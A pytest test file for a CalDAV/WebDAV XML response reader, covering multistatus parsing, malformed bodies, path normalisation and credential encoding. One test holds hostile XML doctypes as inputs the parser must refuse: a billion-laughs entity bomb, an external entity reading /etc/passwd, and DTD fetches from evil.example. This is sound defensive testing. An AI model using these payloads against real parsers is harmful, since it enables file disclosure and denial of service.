"""What servers answer about several resources: read strictly, from XML that may be hostile."""

import pytest

from hetk import dav
from hetk.dav import Credential, Unreadable

HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
# Apple's way: a default namespace, and a block of what it has not, with an empty value in it.
APPLE = f"""{HEAD}<multistatus xmlns="DAV:"><response><href>https://p42-caldav.icloud.com:443/1/calendars/home/A%40b.ics?x=1</href>
<propstat><prop><getetag>"C=1@U=2"</getetag><calendar-data xmlns="urn:ietf:params:xml:ns:caldav"><![CDATA[BEGIN:VCALENDAR]]></calendar-data>
</prop><status>HTTP/1.1 200 OK</status></propstat><propstat><prop><getctag xmlns="http://calendarserver.org/ns/"/><getetag/></prop>
<status>HTTP/1.1 404 Not Found</status></propstat></response>
<response><href>/1/calendars/home/gone.ics</href><status>HTTP/1.1 404 Not Found</status></response>
<sync-token>HwoQEgwAAA==</sync-token></multistatus>"""


def test_only_what_a_server_has_is_a_value() -> None:
    answer = dav.read(APPLE.encode())
    first, second = answer.found
    assert (first.path, first.status, first.text(f"{dav.DAV}getetag")) == (
        "/1/calendars/home/A@b.ics",
        200,
        '"C=1@U=2"',
    )
    assert first.text(f"{dav.CALDAV}calendar-data") == "BEGIN:VCALENDAR"
    assert f"{dav.CALSERVER}getctag" not in first.properties
    assert (second.path, second.status, dict(second.properties)) == ("/1/calendars/home/gone.ics", 404, {})
    assert answer.token == "HwoQEgwAAA=="


def test_a_tag_over_several_lines_is_said_in_one() -> None:
    first, _ = dav.read(APPLE.replace("C=1@U=2", "C=1\n @U=2").encode()).found
    assert first.line(f"{dav.DAV}getetag") == '"C=1 @U=2"'


@pytest.mark.parametrize(
    "body",
    [
        "",
        "<html><body>busy",
        '{"value": []}',
        f"{HEAD}<html/>",
        f'{HEAD}<multistatus xmlns="DAV:"><response><propstat/></response></multistatus>',
        f'{HEAD}<multistatus xmlns="DAV:"><response><href>/a</href><propstat><prop/></propstat></response></multistatus>',
        f'{HEAD}<multistatus xmlns="DAV:"><response><href>/a</href><status>fine</status></response></multistatus>',
        APPLE[:-20],
    ],
)
def test_a_broken_answer_is_never_an_empty_one(body: str) -> None:
    with pytest.raises(Unreadable):
        dav.read(body.encode())


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    "doctype",
    [
        f'<!DOCTYPE m [<!ENTITY l0 "lol">{LAUGHS}]>',
        '<!DOCTYPE m [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE m [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p; <!ENTITY l9 "x">]>',
        '<!DOCTYPE m SYSTEM "https://evil.example/x.dtd">',
    ],
    ids=["a billion laughs", "a file", "a parameter", "a document type elsewhere"],
)
def test_hostile_xml_is_refused_before_it_means_anything(doctype: str) -> None:
    bomb = APPLE.replace(HEAD, HEAD + doctype).replace("BEGIN:VCALENDAR", "]]>&l9;<![CDATA[")
    with pytest.raises(Unreadable):
        dav.read(bomb.encode())


def test_two_spellings_of_one_address_are_one() -> None:
    assert {dav.path_of(href) for href in ("/a/x%40y.ics", "/a/x@y.ics", "https://host:443/a/x%40y.ics")} == {
        "/a/x@y.ics"
    }
    assert dav.path_of("/a/b%2Fc%20%C3%A4.ics") == "/a/b%2Fc%20%C3%A4.ics"


def test_an_error_names_its_conditions() -> None:
    body = (
        f'{HEAD}<error xmlns="DAV:"><valid-sync-token/><no-uid-conflict xmlns="urn:ietf:params:xml:ns:caldav"/></error>'
    )
    assert dav.conditions(body.encode()) == {"valid-sync-token", "no-uid-conflict"}
    assert dav.conditions(b"<html/>") == dav.conditions(b"") == frozenset()


def test_a_credential_comes_back_whole_and_never_shows_its_password() -> None:
    credential = Credential(user="a@b.example", password="pass:wörd", home="https://h/x/", addresses=("a@b.example",))
    assert Credential.decoded(credential.encoded()) == credential
    assert "wörd" not in repr(credential)
    assert credential.basic == "Basic YUBiLmV4YW1wbGU6cGFzczp3w7ZyZA=="
